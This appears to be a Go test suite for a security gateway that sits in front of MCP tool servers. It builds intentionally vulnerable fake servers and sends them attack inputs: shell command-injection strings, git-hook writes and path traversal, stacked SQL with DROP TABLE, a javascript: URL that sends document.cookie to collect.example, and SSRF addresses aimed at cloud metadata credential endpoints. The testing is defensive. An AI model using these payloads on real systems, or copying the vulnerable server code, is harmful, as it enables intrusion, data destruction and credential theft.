package attacks

import (
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"
	_ "modernc.org/sqlite" // the database behind a server
)

// doing is a server of one tool that does what its argument says, and looks at nothing.
func doing(name, description, argument string, do func(map[string]string) string) map[string]*server {
	properties := make(map[string]any)
	for a := range strings.FieldsSeq(argument) {
		properties[a] = map[string]any{"type": "string"}
	}
	s := newServer("")
	s.AddTool(&mcp.Tool{Name: name, Description: description, InputSchema: map[string]any{"type": "object", "properties": properties}},
		func(_ context.Context, r *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			s.calls.Add(1)
			var arguments map[string]string
			if err := json.Unmarshal(r.Params.Arguments, &arguments); err != nil {
				return nil, err
			}
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: do(arguments)}}}, nil
		})
	return map[string]*server{"victim": s}
}

// honest is a call that must do what it says in both places. What the server offers was
// approved by a person: it is the arguments that are to be judged.
func (p *place) honest(tool string, arguments map[string]any, want string) {
	p.Helper()
	if p.gateway != nil {
		p.told(p.connect("victim"))
		p.gateway.Approve(p, "victim")
	}
	if got := p.shown("victim", tool, arguments); !strings.Contains(got, want) {
		p.Fatalf("an honest call does not work: %s", got)
	}
}

func said(err error) string {
	if err != nil {
		return err.Error()
	}
	return "done"
}

// A file is written where another program looks for commands.
func TestG04WriteIntoARepository(t *testing.T) {
	for name, path := range map[string]string{
		"plain": ".git/hooks/post-checkout", "another way there": "docs/../.git/hooks/post-checkout", "in capitals": ".GIT/hooks/post-checkout",
	} {
		t.Run(name, func(t *testing.T) {
			var dir string
			attack(t, "G-04", func() map[string]*server {
				dir = t.TempDir()
				return doing("write_file", "Writes a file of the project.", "path content", func(a map[string]string) string {
					to := filepath.Join(dir, a["path"])
					if err := os.MkdirAll(filepath.Dir(to), 0o700); err != nil {
						return err.Error()
					}
					return said(os.WriteFile(to, []byte(a["content"]), 0o600))
				})
			}, scan, func(p *place) bool {
				p.honest("write_file", map[string]any{"path": "docs/git.md", "content": "# Git\n"}, "done")
				p.shown("victim", "write_file", map[string]any{"path": path, "content": "#!/bin/sh\ntouch MARKER\n"})
				_, err := os.Stat(filepath.Join(dir, path))
				return err == nil
			})
		})
	}
}

// A word of a command line, which the server gives to a shell, holds another command.
func TestG02CommandInAWord(t *testing.T) {
	for name, more := range map[string]string{
		"after a semicolon": "; touch MARKER", "substituted": "$(touch MARKER)", "in backticks": "`touch MARKER`", "on another line": "\ntouch MARKER",
		"after a pipe": "|touch MARKER", "without blanks": ";touch${IFS}MARKER", "in the background": "&touch MARKER",
	} {
		t.Run(name, func(t *testing.T) {
			var dir string
			attack(t, "G-02", func() map[string]*server {
				dir = t.TempDir()
				return doing("git_log", "Shows the log of a branch of the git repository.", "branch", func(a map[string]string) string {
					cmd := exec.CommandContext(context.Background(), "/bin/sh", "-c", "echo the log of "+a["branch"]+"; wait") //nolint:gosec // what is attacked
					cmd.Dir = dir
					out, err := cmd.CombinedOutput()
					return string(out) + said(err)
				})
			}, scan, func(p *place) bool {
				p.honest("git_log", map[string]any{"branch": "feature/rock-n-roll_2.0"}, "the log of feature/rock-n-roll_2.0")
				p.shown("victim", "git_log", map[string]any{"branch": "main" + more})
				_, err := os.Stat(filepath.Join(dir, "MARKER"))
				return err == nil
			})
		})
	}
}

// outside is a directory with a file in it, and a file beside it that is nobody's business.
func outside(t *testing.T) (root string) {
	t.Helper()
	dir := t.TempDir()
	write(t, filepath.Join(dir, "data", "hello"), "hello from a file")
	write(t, filepath.Join(dir, "data", "sub", "hello"), "hello")
	write(t, filepath.Join(dir, "secret"), "of nobody's business")
	return filepath.Join(dir, "data")
}

// A path in an argument leads out of its directory. Servers undo what is encoded; this one does
// it twice.
func TestG05TraversalInAnArgument(t *testing.T) {
	root := outside(t)
	for name, path := range map[string]string{
		"up": "../secret", "down and up": "sub/../../secret", "the whole path": filepath.Join(filepath.Dir(root), "secret"),
		"percent": "%2e%2e/secret", "percent twice": "%252e%252e%252fsecret", "a slash in percent": "sub/..%2f..%2fsecret",
	} {
		t.Run(name, func(t *testing.T) {
			attack(t, "G-05", func() map[string]*server {
				return doing("read_file", "Reads a file.", "path", func(a map[string]string) string {
					path := a["path"]
					for range 2 {
						if once, err := url.PathUnescape(path); err == nil {
							path = once
						}
					}
					if !filepath.IsAbs(path) {
						path = filepath.Join(root, path)
					}
					b, err := os.ReadFile(path)
					if err != nil {
						return err.Error()
					}
					return string(b)
				})
			}, scan+fmt.Sprintf("inspect: {allow: {roots: [%q]}}\n", root), func(p *place) bool {
				p.honest("read_file", map[string]any{"path": "hello"}, "hello from a file")
				p.honest("read_file", map[string]any{"path": filepath.Join(root, "sub", "hello")}, "hello")
				return strings.Contains(p.shown("victim", "read_file", map[string]any{"path": path}), "nobody's business")
			})
		})
	}
}

// The same in the URI of a resource.
func TestG05TraversalInAResource(t *testing.T) {
	root := outside(t)
	for name, uri := range map[string]string{
		"percent": "file://" + root + "/%2e%2e/secret", "half of it": "file://" + root + "/.%2e/secret",
		"a slash in percent": "file://" + root + "/sub%2f..%2f..%2fsecret", "the whole path": "file://" + filepath.Dir(root) + "/secret",
	} {
		t.Run(name, func(t *testing.T) {
			attack(t, "G-05", func() map[string]*server {
				s := newServer("", reads("read_file", "Reads a file."))
				s.AddResourceTemplate(&mcp.ResourceTemplate{Name: "files", URITemplate: "file:///{+path}"},
					func(_ context.Context, r *mcp.ReadResourceRequest) (*mcp.ReadResourceResult, error) {
						path, err := url.PathUnescape(strings.TrimPrefix(r.Params.URI, "file://"))
						if err != nil {
							return nil, err
						}
						b, err := os.ReadFile(path)
						return &mcp.ReadResourceResult{Contents: []*mcp.ResourceContents{{URI: r.Params.URI, Text: string(b)}}}, err
					})
				return map[string]*server{"victim": s}
			}, scan+fmt.Sprintf("inspect: {allow: {roots: [%q]}}\n", root), func(p *place) bool {
				s := p.connect("victim")
				if _, err := s.ListResourceTemplates(p.Context(), nil); err != nil {
					p.Fatal(err)
				}
				if got := read(p, s, "file://"+root+"/hello"); !strings.Contains(got, "hello from a file") {
					p.Fatalf("an honest resource is not read: %s", got)
				}
				return strings.Contains(read(p, s, uri), "nobody's business")
			})
		})
	}
}

func read(p *place, s *mcp.ClientSession, uri string) string {
	r, err := s.ReadResource(p.Context(), &mcp.ReadResourceParams{URI: uri})
	if err != nil {
		return err.Error()
	}
	return r.Contents[0].Text
}

// A tool that is there to read is given statements that do more, and its database does them.
func TestG06StackedStatements(t *testing.T) {
	for name, statement := range map[string]string{
		"stacked":                "SELECT name FROM people; DROP TABLE people",
		"out of what only reads": "PRAGMA query_only = 0; DROP TABLE people; --",
		"in a comment":           "SELECT 1 /* ; */; DROP /**/ TABLE people",
		"alone":                  "DROP TABLE people",
	} {
		t.Run(name, func(t *testing.T) {
			var db *sql.DB
			attack(t, "G-06", func() map[string]*server {
				db = people(t)
				return doing("read_query", "Runs a SELECT query on the SQLite database.", "query", func(a map[string]string) string {
					_, err := db.ExecContext(context.Background(), a["query"])
					return said(err)
				})
			}, scan, func(p *place) bool {
				p.honest("read_query", map[string]any{"query": "SELECT name FROM people WHERE name = 'O''Hara; DROP'"}, "done")
				p.shown("victim", "read_query", map[string]any{"query": statement})
				var n int
				return db.QueryRowContext(p.Context(), "SELECT count(*) FROM people").Scan(&n) != nil
			})
		})
	}
}

func people(t *testing.T) *sql.DB {
	t.Helper()
	db, err := sql.Open("sqlite", filepath.Join(t.TempDir(), "people"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = db.Close() })
	if _, err := db.ExecContext(t.Context(), "CREATE TABLE people (name TEXT); INSERT INTO people VALUES ('Ada')"); err != nil {
		t.Fatal(err)
	}
	return db
}

// A device opens whatever address it is given, and other programs answer to its scheme.
func TestG07Schemes(t *testing.T) {
	for _, address := range []string{
		"intent://scan/#Intent;scheme=zxing;package=com.example;end", "javascript:fetch('https://collect.example/?c='+document.cookie)",
		"JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "content://sms/inbox", "file:///data/local/tmp/x", "tel:+4930123456",
	} {
		t.Run(address, func(t *testing.T) {
			var opened []string
			attack(t, "G-07", func() map[string]*server {
				opened = nil
				return doing("open_url", "Opens an address in the device's browser.", "url", func(a map[string]string) string {
					opened = append(opened, a["url"])
					return "done"
				})
			}, scan, func(p *place) bool {
				p.honest("open_url", map[string]any{"url": "https://www.example.com/a?b=c#d"}, "done")
				p.shown("victim", "open_url", map[string]any{"url": address})
				return slices.Contains(opened, address)
			})
		})
	}
}

// fetching is a server that fetches what it is told to. Its network is one in which every
// address, in any spelling, is that of a service on loopback, whose answers are counted.
func fetching(t *testing.T, hits *atomic.Int64) map[string]*server {
	t.Helper()
	inner := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, "MARKER: credentials of the machine")
	}))
	t.Cleanup(inner.Close)
	client := &http.Client{Transport: &http.Transport{DisableKeepAlives: true, DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, network, inner.Listener.Addr().String())
	}}}
	return doing("fetch", "Fetches a page.", "url", func(a map[string]string) string {
		r, err := client.Get(a["url"])
		if err != nil {
			return err.Error()
		}
		return said(r.Body.Close())
	})
}

func fetched(t *testing.T, threat, address string) {
	t.Helper()
	var hits atomic.Int64
	attack(t, threat, func() map[string]*server { return fetching(t, &hits) }, scan, func(p *place) bool {
		p.honest("fetch", map[string]any{"url": "http://docs.example.com/a"}, "done")
		before := hits.Load()
		p.shown("victim", "fetch", map[string]any{"url": address})
		return hits.Load() > before
	})
}

// An argument makes a server ask the machine's metadata for credentials.
func TestE01Metadata(t *testing.T) {
	for _, address := range []string{
		"http://169.254.169.254/latest/meta-data/", "http://2852039166/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/",
		"http://[fd00:ec2::254]/", "http://169.254.170.2/v2/credentials", "http://100.100.100.200/latest/",
	} {
		t.Run(address, func(t *testing.T) { fetched(t, "E01", address) })
	}
}

// An inner address, in spellings that resolvers and browsers undo.
func TestE02InnerAddressesInOtherSpellings(t *testing.T) {
	for _, address := range []string{
		"http://0x7f.1/", "http://127.1/", "http://0177.0.0.1/", "http://2130706433/", "http://0x7f000001/", "http://0/", "http://127.0.0.1./",
		"http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/", "http://[::1]/", "http://[64:ff9b::7f00:1]/", "http://[2002:7f00:1::]/", "http://[fec0::1]/",
		"http://localhost./", "http://LOCALHOST/", "http://127.0.0.1.nip.io/", "http://10-0-0-1.sslip.io/",
		"http://example.com@127.0.0.1/", "http://10.1.2.3:8080/admin", "http://[fe80::1]/",
	} {
		t.Run(address, func(t *testing.T) { fetched(t, "E02", address) })
	}
}
